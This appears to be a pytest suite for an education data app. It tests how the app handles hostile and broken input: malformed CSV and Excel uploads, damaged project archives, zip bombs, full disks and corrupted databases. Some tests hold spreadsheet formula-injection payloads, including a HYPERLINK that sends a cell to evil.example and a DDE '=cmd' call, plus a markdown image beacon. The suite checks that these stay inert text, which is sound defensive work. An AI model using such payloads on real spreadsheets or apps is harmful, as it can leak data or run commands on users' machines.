"""Hostile and broken input (issue #22): every bad file, project file, output and storage fault gets one
sentence a user can act on, loses nothing already saved, leaves nothing on disk, and stays within bounded
memory (the bombs run in a subprocess under an address-space limit).

Each table row is one story: what the user sends, and the words the one sentence must hold.
"""

from __future__ import annotations

import errno
import io
import json
import os
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pytest

from successgaps import cli
from successgaps.data import datasets, quality, read, views
from successgaps.errors import UserError
from successgaps.models import SCHEMA_VERSION, Member, Project
from successgaps.store import DB_NAME, Store, clean_leftovers, list_backups, restore_backup

ROOT = Path(__file__).resolve().parent.parent


def _students(n: int = 120, *, school: bool = True, extra=None) -> list[list[str]]:
    header = ["student_id"] + (["school"] if school else []) + ["race", "frl", "math_ss", "year"]
    rows = [header]
    for i in range(n):
        row = [str(i + 1)] + ([("North", "South")[i % 2]] if school else [])
        row += [("White", "Black", "Hispanic")[i % 3], "YN"[i % 2], str(400 + (i * 37) % 300), "2024-25"]
        rows.append(row)
    if extra:
        extra(rows)
    return rows


def _csv(rows: list[list[str]], sep: str = ",") -> bytes:
    return ("\n".join(sep.join(r) for r in rows) + "\n").encode()


def _set(row: int, column: str, value: str):
    def change(rows):
        rows[row][rows[0].index(column)] = value
    return change


def _one_sentence(text: str) -> None:
    text = text.strip()
    assert text and "\n" not in text and "Traceback" not in text, text
    assert text.endswith((".", ".)")), text


def _leftovers(folder: Path) -> list[str]:
    """Files in the workspace other than the database, its write-ahead log and its backups."""
    keep = {DB_NAME, DB_NAME + ".wal", "backups"}
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


# ---------------------------------------------------------------------- uploads refused with a sentence

def _xlsx(rows: list[list]) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


WIDE = (",".join(f"c{i}" for i in range(2_500)) + "\n" + ",".join("1" for _ in range(2_500)) + "\n").encode()

BAD_UPLOADS = [
    ("empty", b"", "data.csv", "is empty"),
    ("pdf", b"%PDF-1.7\n...", "data.csv", "PDF document"),
    ("old excel", b"\xd0\xcf\x11\xe0" + b"\0" * 100, "data.xls", "old Excel"),
    ("damaged xlsx", b"PK\x03\x04broken", "data.xlsx", "Excel"),
    ("fake parquet", b"not parquet at all", "data.parquet", "damaged"),
    ("binary", bytes(range(256)) * 40, "data.csv", "not a text table"),
    ("one column", b"name\nA\nB\n", "data.csv", "only one column"),
    ("title lines above the header", b"Riverbend report\nRun 2025-06-30\n\nsid,race,grad\n1,H,1\n2,B,0\n", "data.csv",
     "starts with 2 lines before its header row .*Riverbend report.*delete every line above the column names"),
    ("header only", b"a,b,c\n", "data.csv", "no data rows"),
    ("duplicate header", b"a,b,a\n1,2,3\n", "data.csv", "both called"),
    ("unnamed column", b"a,,c\n1,2,3\n", "data.csv", "has no name"),
    ("ragged row", b"a,b,c\n1,2,3\n1,2\n4,5,6\n", "data.csv", "Row 3"),
    ("10,000 columns", WIDE.replace(b"c2499", b"c2499") * 1, "wide.csv", "2,000"),
    ("60 MB single line", b"a,b\n1,\"" + b"x" * (3 * 1024**2) + b"\"\n", "long.csv", "longer than"),
    ("huge first line", b"x" * (1_100_000), "long.csv", "longer than"),
    ("unclosed quote", b"a,b\n1,\"open\n2,3\n" + b"4,5\n" * 10, "q.csv", "quote"),
    ("excel 2,500 columns", _xlsx([[f"c{i}" for i in range(2_500)], [1] * 2_500]), "wide.xlsx", "2,000"),
    ("excel value under no header", _xlsx([["a", "b"], [1, 2], [3, 4, 5]]), "x.xlsx", "Row 3 .* no name"),
    ("excel header only", _xlsx([["a", "b"]]), "x.xlsx", "no data rows"),
    ("excel empty sheet", _xlsx([]), "x.xlsx", "has no data"),
    ("excel duplicate header", _xlsx([["a", "A"], [1, 2]]), "x.xlsx", "both called"),
]


@pytest.mark.parametrize("content, filename, words", [r[1:] for r in BAD_UPLOADS], ids=[r[0] for r in BAD_UPLOADS])
def test_a_bad_upload_gets_one_sentence_keeps_the_project_and_leaves_nothing(store, content, filename, words):
    project = store.create("Ours")
    before = store.tables(project.id)
    path = store.workspace / "incoming" / filename
    path.parent.mkdir()
    path.write_bytes(content)
    with pytest.raises(UserError, match=words) as info:
        datasets.create_dataset(store, project, path, filename)
    _one_sentence(str(info.value))
    path.unlink()
    path.parent.rmdir()
    assert store.tables(project.id) == before
    assert _leftovers(store.workspace) == []
    assert store.load(project.id).name == "Ours"


def test_an_excel_sheet_streams_in_batches_and_keeps_its_cells(store, monkeypatch):
    """Read with openpyxl's read-only stream, a few rows at a time: memory does not grow with the sheet."""
    batches = []

    monkeypatch.setattr(read, "EXCEL_BATCH_ROWS", 3)
    project = store.create("Ours")
    path = store.workspace / "book.xlsx"
    path.write_bytes(_xlsx([[None, None], [None, "sid", None, "race", "score"], *(
        [None, f"{i:06d}", None, "HB"[i % 2], i * 1.5] for i in range(10))]))
    con = store.cursor()

    class Spy:
        def __getattr__(self, name):
            return getattr(con, name)

        def register(self, name, table):
            batches.append(table.num_rows)
            return con.register(name, table)

    table = store.table(project.id, "f_x")
    assert read.read_upload(Spy(), path, "book.xlsx", table) == 10
    path.unlink()
    assert batches and max(batches) <= 3 and sum(batches) == 10
    assert con.execute(f"SELECT * FROM {table} ORDER BY sid LIMIT 2").fetchall() == [
        ("000000", "H", "0"), ("000001", "B", "1.5")]  # the empty columns A and C are dropped


def test_an_excel_sheet_over_the_cell_limit_gets_a_sentence(store, monkeypatch):
    monkeypatch.setattr(read, "MAX_CELLS", 50)
    project = store.create("Ours")
    path = store.workspace / "big.xlsx"
    path.write_bytes(_xlsx([["a", "b"], *([i, i] for i in range(40))]))
    with pytest.raises(UserError, match="more than the 50 cells") as info:
        datasets.create_dataset(store, project, path, "big.xlsx")
    _one_sentence(str(info.value))
    path.unlink()
    assert _leftovers(store.workspace) == [] and store.tables(project.id) == []


def test_an_excel_file_that_unpacks_to_far_more_is_refused_unread(store, monkeypatch):
    monkeypatch.setattr(read, "MAX_EXCEL_UNPACKED_BYTES", 1_000)
    monkeypatch.setattr(openpyxl, "load_workbook",
                        lambda *a, **k: pytest.fail("the workbook was opened"))
    path = store.workspace / "bomb.xlsx"
    path.write_bytes(_xlsx([["name", "b"], ["a long text shared by many cells", "x"]]))
    with pytest.raises(UserError, match="unpacks to far more") as info:
        read.read_upload(store.cursor(), path, "bomb.xlsx", store.table(store.create("Ours").id, "f_x"))
    _one_sentence(str(info.value))
    path.unlink()


# ---------------------------------------------------------------------- uploads read right, with a word

def _screen(tmp_path, capsys, content: bytes, *args: str, name: str = "data.csv"):
    path = tmp_path / name
    path.write_bytes(content)
    code = cli.main(["screen", str(path), *args])
    out, err = capsys.readouterr()
    return code, out, err


def _rows(out: str):
    import pandas as pd

    return pd.read_csv(io.StringIO(out), keep_default_na=False)


def _inf(rows):
    rows[5][rows[0].index("math_ss")] = "inf"


@pytest.mark.parametrize("value", ["inf", "-inf", "1e308", "NaN", "Infinity", "1e999"])
def test_a_non_finite_or_absurd_score_is_missing_not_a_blank_mean(tmp_path, capsys, value):
    code, out, err = _screen(tmp_path, capsys, _csv(_students(extra=_set(5, "math_ss", value))))
    assert code == 0, err
    table = _rows(out)
    means = table[table["suppressed"].astype(str) == "False"]["mean"]
    assert len(means) and (means != "").all() and means.astype(float).notna().all()
    if value != "NaN":  # NaN is one of the file's marks for a missing value
        assert "1 value that is not a number" in err  # the quality report's warning on standard error


def test_minus_zero_is_zero(tmp_path, capsys):
    plain = _screen(tmp_path, capsys, _csv(_students(extra=_set(5, "math_ss", "0"))))[1]
    signed = _screen(tmp_path, capsys, _csv(_students(extra=_set(5, "math_ss", "-0"))))[1]
    assert plain == signed


def test_a_cell_that_is_not_a_number_is_counted_never_quoted(tmp_path, capsys):
    code, out, err = _screen(tmp_path, capsys, _csv(_students(extra=_set(3, "math_ss", "John Smith"))))
    assert code == 0
    assert "1 value that is not a number" in err and "John" not in err and "John" not in out


def _nines(rows):
    """Three scale scores of 9999 (a common code for a missing score) among the students."""
    for i in (2, 7, 11):
        rows[i][rows[0].index("math_ss")] = "9999"


def test_far_out_scores_are_warned_on_standard_error(tmp_path, capsys):
    code, _, err = _screen(tmp_path, capsys, _csv(_students(extra=_nines)))
    assert code == 0 and "far outside its usual range" in err


@pytest.mark.parametrize("spelling", ["2024-25", "24-25", "SY2024-25", "2024-2025", "SY 2024-25", "2024/25"])
def test_spellings_of_one_school_year_are_one_year(tmp_path, capsys, spelling):
    def mixed(rows):
        for i in range(1, len(rows), 2):
            rows[i][rows[0].index("year")] = spelling
    code, out, err = _screen(tmp_path, capsys, _csv(_students(extra=mixed)), "--by", "year")
    assert code == 0, err
    assert set(_rows(out)["year"].astype(str)) == {"2024-25"}


def test_a_bare_year_beside_school_years_is_warned(tmp_path, capsys):
    code, out, err = _screen(tmp_path, capsys, _csv(_students(extra=_set(1, "year", "2024"))), "--by", "year")
    assert code == 0 and "one number (2024)" in err


def test_two_group_columns_with_one_label_stay_two_dimensions(tmp_path, capsys):
    def twin(rows):
        rows[0].append("ethnicity")
        for i, row in enumerate(rows[1:]):
            row.append(("Hispanic", "Not Hispanic")[i % 2])
    code, out, err = _screen(tmp_path, capsys, _csv(_students(extra=twin)), "--group", "race", "--group", "ethnicity")
    assert code == 0, err
    table = _rows(out)
    district = table[table["level"] == "district"]
    assert district["dimension"].nunique() == 2
    race = district[district["dimension"].str.contains(r"\(race\)")]
    assert race.drop_duplicates("group")["n"].sum() == 120  # nobody counted twice (merged, it would be 180)


def test_two_non_latin_headers_stay_two_dimensions(store):
    project = store.create("Ours")
    rows = _students(extra=None)
    rows[0][2] = "民族"
    rows[0][3] = "ジェンダー"
    path = store.workspace / "u.csv"
    path.write_bytes(_csv(rows))
    dataset = datasets.create_dataset(store, project, path, "u.csv")
    path.unlink()
    for c in dataset.columns:
        if c.column in ("民族", "ジェンダー"):
            c.role, c.label = "group", "Column"
    dims = views.student_dimensions(dataset)
    assert len({d.key for d, _ in dims}) == len(dims) and len({d.label for d, _ in dims}) == len(dims)


def test_an_outcome_named_twice_is_refused(tmp_path, capsys):
    code, _, err = _screen(tmp_path, capsys, _csv(_students()), "--outcome", "math_ss", "--outcome", "math_ss>=500")
    assert code == 2 and "twice" in err
    _one_sentence(err.removeprefix("Error: "))


def test_right_to_left_marks_are_text(tmp_path, capsys):
    rows = _students()
    rows[0][1] = "\u200fschool"
    rows[1][1] = "\u200fמרכז"
    code, out, err = _screen(tmp_path, capsys, _csv(rows))
    assert code == 0, err


def test_mixed_utf8_and_windows_1252_lines_are_both_read(store):
    project = store.create("Ours")
    body = "student_id,school,race,frl,math_ss,year\n".encode()
    body += "1,Élan,White,Y,500,2024-25\n".encode("utf-8")
    body += "2,Éire,Black,N,510,2024-25\n".encode("cp1252")
    path = store.workspace / "mixed.csv"
    path.write_bytes(body)
    dataset = datasets.create_dataset(store, project, path, "mixed.csv")
    path.unlink()
    table = store.table(project.id, dataset.files[0].table)
    assert sorted(r[0] for r in store.cursor().execute(f"SELECT school FROM {table}").fetchall()) == ["Éire", "Élan"]
    assert _leftovers(store.workspace) == []


def test_a_file_with_no_school_column_screens(tmp_path, capsys):
    code, out, err = _screen(tmp_path, capsys, _csv(_students(school=False)), "--by", "school")
    assert code == 0, err
    assert len(_rows(out)) and set(_rows(out)["level"]) == {"district"} and "no school column" in err


def test_students_with_no_school_are_a_named_school_not_district_rows(tmp_path, capsys):
    def some_missing(rows):
        for i in range(1, 41):
            rows[i][rows[0].index("school")] = ""
    code, out, err = _screen(tmp_path, capsys, _csv(_students(extra=some_missing)), "--by", "school",
                             "--min-n", "0", "--min-cell", "0")
    assert code == 0, err
    schools = _rows(out).query("level == 'school'")["school"]
    assert "" not in set(schools) and "(school not given)" in set(schools)


# ---------------------------------------------------------------------- outputs never run what a file says

def test_cli_csv_and_xlsx_keep_formulas_as_text(tmp_path, capsys):
    rows = _students(extra=_set(1, "school", '=HYPERLINK("http://evil.example/x")'))
    code, out, err = _screen(tmp_path, capsys, _csv(rows), "--by", "school", "--min-n", "0", "--min-cell", "0")
    assert code == 0, err
    assert "\n=HYPERLINK" not in out and ",=HYPERLINK" not in out and "'=HYPERLINK" in out
    target = tmp_path / "x.xlsx"
    assert cli.main(["screen", str(tmp_path / "data.csv"), "--by", "school", "--min-n", "0", "--out", str(target)]) == 0
    sheet = openpyxl.load_workbook(target).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_csv_headers_from_names_are_not_formulas():
    import pandas as pd

    from successgaps.outputs import spreadsheet

    data = spreadsheet.csv_bytes(pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "Ana": ["y"]})).decode("utf-8-sig")
    assert data.splitlines()[0].startswith("\"'=cmd") or data.splitlines()[0].startswith("'=cmd")


def test_the_rating_workbook_keeps_a_members_name_as_text():
    from successgaps.process import rating_workbook

    project = Project(name="=HYPERLINK(\"http://evil.example\")")
    member = Member(name='=HYPERLINK("http://evil.example/?"&A1)')
    project.members.append(member)
    book = openpyxl.load_workbook(io.BytesIO(rating_workbook.rating_workbook(project, member.id)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


# ---------------------------------------------------------------------- project files

def _zip(entries: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in entries.items():
            zf.writestr(name, content)
    return buffer.getvalue()


def _entries(manifest=None, doc=None) -> dict[str, str]:
    return {"manifest.json": json.dumps({"format": "successgaps-project", "schema_version": SCHEMA_VERSION,
                                         "tables": [], **(manifest or {})}),
            "project.json": json.dumps({**json.loads(Project(name="Theirs").model_dump_json()), **(doc or {})})}


BAD_PROJECT_FILES = [
    ("schema_version text in project", _zip(_entries(doc={"schema_version": "2"})), "not a Success Gaps project"),
    ("schema_version list in project", _zip(_entries(doc={"schema_version": [1]})), "not a Success Gaps project"),
    ("schema_version text in manifest", _zip(_entries({"schema_version": "1"})), "not a Success Gaps project"),
    ("schema_version true", _zip(_entries({"schema_version": True})), "not a Success Gaps project"),
    ("manifest is a list", _zip({**_entries(), "manifest.json": "[1, 2]"}), "not a Success Gaps project"),
    ("project is a list", _zip({**_entries(), "project.json": "[]"}), "not a Success Gaps project"),
    ("manifest names a missing table", _zip(_entries({"tables": ["f_a"]})), "not a Success Gaps project"),
    ("a table twice", _zip({**_entries({"tables": ["f_a", "f_a"]}), "tables/0.parquet": b"x",
                            "tables/1.parquet": b"x"}), "not a Success Gaps project"),
    ("a table that is not parquet", _zip({**_entries({"tables": ["f_a"]}), "tables/0.parquet": b"not parquet"}),
     "not a Success Gaps project"),
    ("deep json", _zip({**_entries(), "project.json": "[" * 100_000 + "]" * 100_000}), "not a Success Gaps project"),
    ("too many entries", _zip({**_entries(), **{f"junk/{i}": "" for i in range(10_001)}}), "entries"),
    ("bomb project.json", _zip({**_entries(), "project.json": " " * (80 * 1024**2)}), "unpacks to far more"),
    ("bomb table", _zip({**_entries({"tables": ["f_a"]}), "tables/0.parquet": b"\0" * (40 * 1024**2)}),
     "unpacks to far more"),
]


@pytest.mark.parametrize("data, words", [r[1:] for r in BAD_PROJECT_FILES], ids=[r[0] for r in BAD_PROJECT_FILES])
def test_a_bad_project_file_is_refused_whole_before_anything_is_written(store, data, words):
    ours = store.create("Ours")
    with pytest.raises(UserError, match=words) as info:
        store.import_project(data)
    _one_sentence(str(info.value))
    assert [p.id for p in store.list()] == [ours.id]
    assert _leftovers(store.workspace) == []


BOMB = textwrap.dedent("""
    import resource, sys, zipfile
    resource.setrlimit(resource.RLIMIT_AS, (1500 * 1024**2, 1500 * 1024**2))
    from successgaps.errors import UserError
    from successgaps.store import Store
    store = Store(sys.argv[1])
    data = open(sys.argv[2], "rb").read()
    try:
        store.import_project(data)
    except UserError as exc:
        print("REFUSED", exc)
    else:
        print("OPENED")
""")


def _bomb_file(path: Path, entry: str, size: int, tables: list[str]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("manifest.json", json.dumps({"format": "successgaps-project", "schema_version": SCHEMA_VERSION,
                                                 "tables": tables}))
        if entry != "project.json":
            zf.writestr("project.json", Project(name="Bomb").model_dump_json())
        with zf.open(entry, "w", force_zip64=True) as out:
            block = b" " * 1024**2
            for _ in range(size // len(block)):
                out.write(block)


@pytest.mark.parametrize("entry, tables", [("project.json", []), ("tables/0.parquet", ["f_a"])],
                         ids=["project.json of 2 GB", "table of 2 GB"])
def test_a_zip_bomb_is_refused_within_bounded_memory(tmp_path, entry, tables):
    bomb = tmp_path / "bomb.sgproj"
    _bomb_file(bomb, entry, 2 * 1024**3, tables)
    assert bomb.stat().st_size < 10 * 1024**2
    result = subprocess.run([sys.executable, "-c", BOMB, str(tmp_path / "ws"), str(bomb)], capture_output=True,
                            text=True, cwd=ROOT, timeout=300, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert "REFUSED" in result.stdout and "unpacks to far more" in result.stdout, result.stdout + result.stderr[-2000:]
    assert _leftovers(tmp_path / "ws") == []


def test_a_good_project_file_still_opens(store):
    ours = store.create("Ours")
    opened = store.import_project(store.export_project(ours.id))
    assert opened.name == "Ours" and len(store.list()) == 2


# ---------------------------------------------------------------------- storage faults

def test_a_workspace_that_is_a_file(tmp_path):
    target = tmp_path / "ws"
    target.write_text("not a folder")
    with pytest.raises(UserError, match="is a file, not a folder") as info:
        Store(target)
    _one_sentence(str(info.value))


def test_a_workspace_in_use_by_another_app(tmp_path):
    Store(tmp_path / "ws").close()
    holder = subprocess.Popen([sys.executable, "-c", "import duckdb,sys,time; c=duckdb.connect(sys.argv[1]); "
                               "print('held', flush=True); time.sleep(60)", str(tmp_path / "ws" / DB_NAME)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(UserError, match="in use by another Success Gaps app") as info:
            Store(tmp_path / "ws")
        _one_sentence(str(info.value))
    finally:
        holder.kill()
        holder.wait()


@pytest.mark.parametrize("damage", ["truncated", "bad header", "text"])
def test_a_damaged_database_says_so_and_a_backup_brings_it_back(tmp_path, damage):
    folder = tmp_path / "ws"
    store = Store(folder)
    store.create("Kept")
    store.backup()
    store.close()
    db = folder / DB_NAME
    content = db.read_bytes()
    db.write_bytes({"truncated": content[:5000], "bad header": b"garbage!" * 8 + content[64:],
                    "text": b"hello"}[damage])
    with pytest.raises(UserError, match="damaged") as info:
        Store(folder)
    _one_sentence(str(info.value))
    assert "restore one of its 1 daily backups" in str(info.value)
    kept = restore_backup(folder, list_backups(folder)[0])
    assert kept.exists()
    assert [p.name for p in Store(folder).list()] == ["Kept"]


def test_backups_are_daily_and_kept_a_week(tmp_path):
    from datetime import date, timedelta

    store = Store(tmp_path / "ws")
    store.create("Kept")
    start = date(2026, 1, 1)
    for day in range(10):
        store.backup(start + timedelta(days=day))
    assert store.backup(start + timedelta(days=9)) is None  # once a day
    assert [p.stem for p in list_backups(store.workspace)] == [
        (start + timedelta(days=d)).isoformat() for d in range(9, 2, -1)]


def test_a_full_disk_on_save_says_so_and_keeps_the_last_good_state(store, monkeypatch):
    import duckdb

    project = store.create("Ours")
    project.name = "Changed"
    real = store.cursor

    class Full:
        def __init__(self, con):
            self.con = con

        def execute(self, sql, *args):
            if sql.startswith("UPDATE"):
                raise duckdb.IOException("IO Error: Could not write file: No space left on device")
            return self.con.execute(sql, *args)

    monkeypatch.setattr(store, "cursor", lambda: Full(real()))
    with pytest.raises(UserError, match="disk .* is full") as info:
        store.save(project)
    _one_sentence(str(info.value))
    monkeypatch.setattr(store, "cursor", real)
    assert store.load(project.id).name == "Ours"


class _FullDisk:
    """A file whose second write finds the disk full: part of the copy was written before the fault."""

    def __init__(self, real):
        self.real, self.writes = real, 0

    def __getattr__(self, name):
        return getattr(self.real, name)

    def __enter__(self):
        self.real.__enter__()
        return self

    def __exit__(self, *exc):
        return self.real.__exit__(*exc)

    def write(self, data):
        self.writes += 1
        if self.writes > 1:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self.real.write(data)


def _fill_on_write(monkeypatch):
    real = os.fdopen
    monkeypatch.setattr(os, "fdopen", lambda *a, **k: _FullDisk(real(*a, **k)))


def _fill_while_spooling(store, project, monkeypatch):
    _fill_on_write(monkeypatch)
    big = io.BytesIO(_csv(_students(400)) * 60)  # several chunks of the spool
    monkeypatch.setattr(read, "shutil", type("S", (), {"copyfileobj": staticmethod(
        lambda src, dst, size: [dst.write(src.read(1024)) for _ in range(3)])}))
    with read.spooled(big, store.workspace) as path:
        datasets.create_dataset(store, project, path, "u.csv")


def _fill_while_converting(store, project, monkeypatch):
    path = store.workspace / "in" / "u.csv"
    path.parent.mkdir()
    path.write_bytes(("\n".join(",".join(r) for r in _students(400)) + "\nx,Nguy\u00ean,H,Y,1,2024-25\n").encode("cp1252",
                                                                                                     "replace") * 3)
    _fill_on_write(monkeypatch)
    try:
        datasets.create_dataset(store, project, path, "u.csv")
    finally:
        path.unlink()
        path.parent.rmdir()


def _fill_while_writing_the_table(store, project, monkeypatch):
    import duckdb

    def full(*args, **kwargs):
        raise duckdb.IOException('IO Error: Could not write file "successgaps.duckdb": No space left on device')
    monkeypatch.setattr(read, "_run_with_progress", full)
    path = store.workspace / "u.csv"
    path.write_bytes(_csv(_students()))
    try:
        datasets.create_dataset(store, project, path, "u.csv")
    finally:
        path.unlink()


@pytest.mark.parametrize("fault", [_fill_while_spooling, _fill_while_converting, _fill_while_writing_the_table],
                         ids=["spooling the upload", "converting it to UTF-8", "writing its table"])
def test_a_full_disk_during_an_upload_is_one_sentence_and_leaves_nothing(store, monkeypatch, fault):
    project = store.create("Ours")
    before = store.tables(project.id)
    with pytest.raises(UserError, match="disk of the workspace folder .* is full") as info:
        fault(store, project, monkeypatch)
    monkeypatch.undo()
    _one_sentence(str(info.value))
    assert _leftovers(store.workspace) == []
    assert store.tables(project.id) == before and store.load(project.id).name == "Ours"


def test_spooled_uploads_of_a_killed_server_are_cleaned_at_start(tmp_path):
    folder = tmp_path / "ws"
    folder.mkdir()
    old = [folder / "upload-abc.tmp", folder / "utf8-def.csv"]
    for path in old:
        path.write_text("student records")
        os.utime(path, (1, 1))
    (folder / "sgtmp-abc").mkdir()
    (folder / "sgtmp-abc" / "0.parquet").write_text("student records")
    os.utime(folder / "sgtmp-abc", (1, 1))
    old.append(folder / "sgtmp-abc")
    fresh = folder / "upload-running.tmp"
    fresh.write_text("an upload in progress")
    Store(folder).close()
    assert not any(p.exists() for p in old) and fresh.exists()
    assert clean_leftovers(folder, older_than=-1) == 1


def test_the_quality_report_never_quotes_a_non_number(store):
    project = store.create("Ours")
    path = store.workspace / "u.csv"
    path.write_bytes(_csv(_students(extra=_set(3, "math_ss", "Jane Doe"))))
    dataset = datasets.create_dataset(store, project, path, "u.csv")
    path.unlink()
    project.datasets.append(dataset)
    text = " ".join(f.text for f in quality.quality_report(store.cursor(), project, dataset))
    assert "1 value that is not a number" in text and "Jane" not in text


# ---------------------------------------------------------------------- the page-level handler

def _home(workspace: Path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from successgaps import ui

    monkeypatch.setenv("SUCCESSGAPS_WORKSPACE", str(workspace))
    ui._store.clear()
    at = AppTest.from_file(str(ROOT / "Home.py"), default_timeout=60)
    at.run()
    return at


def _screen_text(at) -> str:
    parts = [e.value for kind in ("error", "warning", "info", "success", "markdown", "caption") for e in getattr(at, kind)]
    return "\n".join(str(p) for p in parts)


def test_a_page_error_is_one_sentence_on_screen_and_details_in_the_log(tmp_path, monkeypatch):
    import successgaps.ui.guidance as guidance

    def boom(*args, **kwargs):
        raise RuntimeError("secret detail about student John Smith")

    monkeypatch.setattr(guidance, "render_explainer", boom)
    at = _home(tmp_path / "ws", monkeypatch)
    assert not at.exception
    assert "Something went wrong on this page" in at.error[0].value
    assert "John" not in _screen_text(at)
    assert "John Smith" in (tmp_path / "ws" / "errors.log").read_text()


def test_a_workspace_that_is_a_file_gets_its_sentence_on_the_page(tmp_path, monkeypatch):
    (tmp_path / "ws").write_text("not a folder")
    at = _home(tmp_path / "ws", monkeypatch)
    assert not at.exception
    assert "is a file, not a folder" in at.error[0].value


def test_a_damaged_workspace_is_restored_from_home(tmp_path, monkeypatch):
    folder = tmp_path / "ws"
    store = Store(folder)
    store.create("Kept")
    store.backup()
    store.close()
    (folder / DB_NAME).write_bytes(b"garbage!" * 100)
    at = _home(folder, monkeypatch)
    assert not at.exception
    assert "damaged" in at.error[0].value
    at.button(key="sg_restore").click().run()
    assert not at.exception
    assert any("restored from the backup" in s.value for s in [*at.success, *at.toast])
    assert not any("restarted" in w.value for w in at.warning)  # the same server all along
    assert any(b.label == "Kept" for b in at.button)
    from successgaps import ui

    ui._store.clear()


def test_names_from_users_are_shown_as_text_never_as_markdown(tmp_path, monkeypatch):
    from successgaps import ui

    hostile = "![](http://evil.example/p.png)"
    monkeypatch.setenv("SUCCESSGAPS_WORKSPACE", str(tmp_path / "ws"))
    ui._store.clear()
    project = ui.store().create(hostile)
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "Home.py"), default_timeout=60)
    at.query_params["project"] = project.id
    at.run()
    assert not at.exception
    shown = _screen_text(at) + "\n".join(str(m.value) for m in at.sidebar.markdown) + "\n".join(
        str(h.value) for h in at.header)
    assert "evil.example" in shown and "![" not in shown.replace("\\!\\[", "")
    ui._store.clear()


def test_a_stale_tabs_change_is_refused_without_a_success_message_and_the_form_is_kept(open_page, store):
    project = store.create("Ours")
    at = open_page("pages/1_Team_and_Meetings.py", project=project.id)
    other_tab = store.load(project.id)
    other_tab.facilitator = "Someone else"
    store.save(other_tab)  # another tab saves after this page was drawn
    at.text_input(key="team_new_name").input("Ana Díaz")
    next(b for b in at.button if b.label.startswith("Add to the team")).click().run()
    assert not at.exception
    assert any("another tab or window" in e.value for e in at.error)
    assert not any("is on the roster" in s.value for s in at.success)
    assert at.text_input(key="team_new_name").value == "Ana Díaz"
    assert store.load(project.id).members == []


def _no_school_project(store):
    project = store.create("No schools")
    path = store.workspace / "u.csv"
    path.write_bytes(_csv(_students(school=False)))
    dataset = datasets.create_dataset(store, project, path, "u.csv")
    path.unlink()
    dataset.confirmed = True
    project.datasets.append(dataset)
    return store.save(project)


def test_a_file_with_no_school_column_on_the_data_page_and_in_the_pdf(open_page, store):
    from successgaps.outputs import gap_reports

    project = _no_school_project(store)
    at = open_page("pages/2_Data.py", project=project.id)
    assert not at.exception and not at.error
    assert gap_reports.gap_screen_report(store.load(project.id), store.cursor())[:4] == b"%PDF"


def test_far_out_scores_are_flagged_where_the_gap_is_shown(open_page, store, tmp_path):
    """Three scale scores of 9999 among the students: beside the gaps of math_ss (read as Math scale score) on the page (the screen, Look closer,
    the statement draft) and in the PDFs that show them (the gap screen, the statement) — not only in the
    quality report."""
    from successgaps.models import GapStatement
    from successgaps.outputs import gap_reports
    from tests.page_tabs import open_tab
    from tests.test_reports import pdf_text

    project = store.create("Nines")
    path = store.workspace / "u.csv"
    path.write_bytes(_csv(_students(extra=_nines)))
    dataset = datasets.create_dataset(store, project, path, "u.csv")
    path.unlink()
    dataset.confirmed = True
    project.datasets.append(dataset)
    project.statements.append(GapStatement(dataset_id=dataset.id, dimension="race", group="Black",
                                           outcome="Math scale score", text="Black students score lower."))
    store.save(project)
    at = open_page("pages/3_Identify_Gaps.py", project=project.id)
    assert not at.exception
    for tab in ("Gap screen", "Look closer", "Success gap statements", "Heatmap"):  # each drawn when it is open
        open_tab(at, "gaps_tab", tab)
        flags = [w.value for w in at.warning if "Check the data before trusting the gaps in Math scale score" in w.value]
        assert all("3 values far outside its usual range" in f for f in flags)
        assert bool(flags) == (tab != "Heatmap"), tab  # beside the gaps, not above every tab
    saved = store.load(project.id)
    for pdf in (gap_reports.gap_screen_report(saved, store.cursor()), gap_reports.statement_report(saved, store.cursor())):
        text = " ".join(pdf_text(pdf, tmp_path).split())
        assert "Check the data before trusting the gaps in Math scale score: math_ss has 3 values far outside" in text


def test_far_out_scores_are_flagged_on_the_quick_screen_and_its_one_page_pdf(open_page, tmp_path):
    """A principal drops the same file on the Quick screen: the sentence is beside its gaps on the page and on the
    one-page PDF they hand out."""
    from successgaps.engine import quickscreen
    from successgaps.outputs import gap_reports
    from tests.test_reports import pdf_text

    data = _csv(_students(extra=_nines))
    at = open_page("pages/9_Quick_Screen.py")
    at.file_uploader(key="qs_upload").upload("nines.csv", data, "text/csv")
    at.run()
    assert not at.exception
    sentence = "Check the data before trusting the gaps in Math scale score: math_ss has 3 values far outside"
    assert [w for w in at.warning if w.value.replace("\\", "").startswith(sentence)]  # Markdown: math\_ss
    one_page = pdf_text(gap_reports.one_pager(quickscreen.run(data, "nines.csv", tmp_path)), tmp_path)
    assert sentence in " ".join(one_page.split())
